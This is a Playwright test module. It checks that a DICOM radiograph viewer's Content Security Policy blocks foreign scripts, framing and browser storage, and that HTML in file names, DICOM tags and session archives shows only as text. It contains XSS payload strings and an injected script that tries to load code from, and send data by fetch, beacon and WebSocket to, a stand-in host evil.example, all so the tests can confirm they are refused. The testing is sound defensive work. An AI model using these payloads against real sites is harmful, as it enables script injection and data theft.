"""The page in Chromium under its own policy: everything works, nothing foreign runs, nothing is kept.

That the policy refuses nothing the page needs is held here, and in every other test with the fixture `page`,
which fails on an error in the console.
"""

from __future__ import annotations

import io
import re
import threading
import zipfile
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING

import numpy as np
import pytest
from playwright.sync_api import expect
from pydicom.config import disable_value_validation

from mura_core.review.passwords import add_reader
from tests.browser import LIMIT_MS, analyse, film, open_tab
from tests.fake_predictor import png
from tests.radiograph_files import dicom_bytes
from tests.stand_in_server import served

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

# Whatever of these ever reached a template, an attribute or a style would run.
HOSTILE = "<img src=x onerror=ran()>${ran()}{{ran()}}<script>ran()</script>'\"><svg onload=ran()>"
WATCH = """
window.ran = () => { window.hasRun = true; };
window.refused = [];
addEventListener("securitypolicyviolation", (event) => refused.push(event.violatedDirective));
"""


@pytest.fixture(scope="module")
def server(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """The page with review sessions, for the fixture `page` too."""
    assert browser.is_connected()
    folder = tmp_path_factory.mktemp("web-browser")
    with served(folder / "uploads", "--sessions", str(folder / "sessions")) as address:
        yield address, folder


@pytest.fixture
def watched(page: Page) -> Iterator[Page]:
    """The same, with a watch for foreign scripts and for what the policy refuses."""
    page.add_init_script(WATCH)
    page.reload()
    expect(page.locator(".viewer")).to_be_visible(timeout=LIMIT_MS)
    yield page
    assert page.evaluate("[window.hasRun ?? false, window.refused]") == [False, []]


def kept(page: Page) -> dict[str, int]:
    """How much the browser keeps of the page, by place."""
    script = """async () => ({
        local: localStorage.length, session: sessionStorage.length, cookie: document.cookie.length,
        databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length,
        workers: (await navigator.serviceWorker.getRegistrations()).length,
        files: (await Array.fromAsync((await navigator.storage.getDirectory()).keys())).length,
        name: window.name.length, state: history.state === null ? 0 : JSON.stringify(history.state).length,
    })"""
    found: dict[str, int] = page.evaluate(script)
    return found | {"cookies": len(page.context.cookies())}


@pytest.mark.parametrize("language", ["", "ko"])
def test_an_example_is_analysed_and_looked_at_under_the_policy_and_nothing_stays(
    watched: Page, server: tuple[str, Path], language: str
) -> None:
    watched.goto(server[0] + language)
    watched.locator(".example").last.click()
    expect(watched.locator(".viewer")).to_have_attribute("data-phase", "called", timeout=LIMIT_MS)
    for key in ("h", "i", "m", "v", "Escape", "?", "Escape", "r"):
        watched.keyboard.press(key)
    if not language:
        for tab in ("Display", "Layout", "Measure", "Threshold"):
            open_tab(watched, tab)
    expect(watched.locator("canvas.screen")).to_be_visible()
    assert set(kept(watched).values()) == {0}, kept(watched)


def test_html_in_file_names_and_in_dicom_text_is_only_text(watched: Page) -> None:
    text = HOSTILE[:60]
    tags = {
        "PatientName": text,
        "PatientID": text,
        "StudyDescription": text,
        "SeriesDescription": text,
        "ImageComments": HOSTILE,
        "Manufacturer": text,
        "BodyPartExamined": "<B>X",
        "ViewPosition": "<B>",
    }
    values = np.full((64, 48), 9, np.uint16)
    values[20:40, 10:30] = 900
    named = f"{HOSTILE}.dcm".replace("/", "∕")
    with disable_value_validation():
        content = dicom_bytes(values, **tags)
    analyse(
        watched,
        film(named, content),
        film(f"{HOSTILE[:40]}.png", png(2)),
        film(f"{HOSTILE[:30]}.txt", b"x"),
    )
    expect(watched.locator(".corner.top-left")).to_contain_text("onerror=ran()")
    expect(watched.locator(".alerts")).to_contain_text("onerror")
    for tab in ("Layout", "Measure", "Threshold", "Display"):
        open_tab(watched, tab)
    watched.keyboard.press("v")
    expect(watched.locator("dialog[open]")).to_be_visible()
    assert watched.locator("img[src='x'], svg[onload]").count() == 0


def test_html_in_a_sessions_files_and_names_is_only_text(watched: Page, server: tuple[str, Path]) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("<b onclick=ran()>/a.png", png(1))
        archive.writestr("<img src=x onerror=ran()>/broken.png", b"no film")
    watched.goto(server[0] + "review")
    watched.get_by_text("New session", exact=True).click()
    watched.locator("#films input[type=file]").set_input_files(film("s.zip", packed.getvalue()))
    expect(watched.locator("#films")).to_contain_text("s.zip", timeout=LIMIT_MS)
    watched.get_by_label("Name of the session").fill("Odd")
    watched.locator("#owner input, #owner textarea").fill("<img src=x onerror=ran()>")
    watched.locator("#create").click()
    expect(watched.locator(".told")).to_contain_text("onerror", timeout=LIMIT_MS)
    watched.locator(".session", has_text="Odd").click()
    watched.locator("input.reader").fill("<img src=x onerror=ran()>")
    watched.locator(".sit").click()
    expect(watched.locator(".review .at")).to_have_text("Study 1 of 1", timeout=LIMIT_MS)
    expect(watched.locator(".viewer")).to_have_attribute("data-phase", "blind", timeout=LIMIT_MS)
    watched.keyboard.press("n")
    watched.keyboard.press("Enter")
    expect(watched.locator(".review .saved")).to_contain_text("Saved", timeout=LIMIT_MS)
    assert watched.locator("img[src='x'], b[onclick]").count() == 0
    assert set(kept(watched).values()) == {0}, kept(watched)


@pytest.fixture
def bare(browser: Browser, server: tuple[str, Path]) -> Iterator[Page]:
    """The page in a browser of its own, where errors are expected."""
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    page.goto(server[0])
    expect(page.locator(".viewer")).to_be_visible(timeout=LIMIT_MS)
    yield page
    context.close()


def test_what_does_get_into_the_page_neither_runs_nor_reaches_anybody(bare: Page) -> None:
    bare.evaluate("""() => {
        const injected = "<img src=data:, onerror=ran()><a id=a href='javascript:ran()'>a</a>";
        document.body.insertAdjacentHTML("beforeend", injected);
        const add = (name, parts) => document.body.append(Object.assign(document.createElement(name), parts));
        add("script", { textContent: "ran()" });
        add("script", { src: "https://evil.example/a.js" });
        add("img", { src: "https://evil.example/a.png" });
        add("iframe", { src: "https://evil.example/" });
        add("object", { data: "https://evil.example/" });
        add("style", { textContent: "@import 'https://evil.example/a.css'" });
        add("base", { href: "https://evil.example/" });
        document.getElementById("a").click();
        fetch("https://evil.example/", { method: "POST", body: "film" }).catch(() => 0);
        navigator.sendBeacon("https://evil.example/", "film");
        try { new WebSocket("wss://evil.example/"); } catch {}
        try { new Worker("data:,"); } catch {}
    }""")
    bare.wait_for_timeout(500)
    refused = " ".join(bare.evaluate("window.refused"))
    assert bare.evaluate("window.hasRun ?? false") is False
    for rule in (
        "script-src-elem",
        "script-src-attr",
        "img-src",
        "frame-src",
        "object-src",
        "style-src",
        "connect-src",
    ):
        assert rule in refused, (rule, refused)


@contextmanager
def another_site() -> Iterator[str]:
    """A site whose every page shows in a frame what its path names after the slash; gives its origin."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<iframe src='{self.path[1:]}' width=1200 height=800></iframe>".encode())

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Page) as site:
        thread = threading.Thread(target=site.serve_forever)
        thread.start()
        # By another name than the page's own address: another site to a browser.
        yield f"http://localhost:{site.server_port}"
        site.shutdown()
        thread.join()


@contextmanager
def framed(browser: Browser, site: str, address: str) -> Iterator[tuple[Page, list[str]]]:
    """Another site's page that shows an address in a frame, and what its console says."""
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(LIMIT_MS)
    said: list[str] = []
    page.on("console", lambda line: said.append(line.text))
    page.goto(f"{site}/{address}")
    yield page, said
    context.close()


def test_no_other_page_shows_this_one_in_a_frame(browser: Browser, server: tuple[str, Path]) -> None:
    with another_site() as site, framed(browser, site, server[0]) as (page, said):
        page.wait_for_timeout(500)
        assert any("frame-ancestors 'none'" in line for line in said), said
        assert page.frame_locator("iframe").locator(".viewer").count() == 0


def test_a_page_that_is_named_may_show_this_one_and_it_works_there(browser: Browser, tmp_path: Path) -> None:
    arguments = ("--sessions", tmp_path / "sessions", "--routes", tmp_path / "routes")
    with (
        another_site() as site,
        served(
            tmp_path / "uploads", *map(str, arguments), "--embed", site, module="tests.web_server"
        ) as address,
        framed(browser, site, address) as (page, said),
    ):
        inside = page.frame_locator("iframe")
        inside.locator(".example").last.click()
        expect(inside.locator(".viewer")).to_have_attribute("data-phase", "called", timeout=LIMIT_MS)
        assert not [line for line in said if "Content Security Policy" in line], said


def test_signing_in_works_under_the_policy(browser: Browser, tmp_path: Path) -> None:
    add_reader(tmp_path / "readers", "ann", "correct horse")
    context = browser.new_context()
    context.add_init_script(WATCH)
    page = context.new_page()
    with served(tmp_path / "uploads", "--auth", str(tmp_path / "readers")) as address:
        page.goto(address)
        page.get_by_label("username").fill("ann")
        page.get_by_label("password").fill("correct horse")
        page.get_by_role("button", name=re.compile("login", re.IGNORECASE)).click()
        expect(page.locator(".viewer")).to_be_visible(timeout=LIMIT_MS)
        assert page.evaluate("window.refused") == []
        assert page.evaluate("document.cookie") == ""
        assert {cookie["sameSite"] for cookie in page.context.cookies()} == {"Lax"}
        assert all(cookie["httpOnly"] for cookie in page.context.cookies())
    context.close()
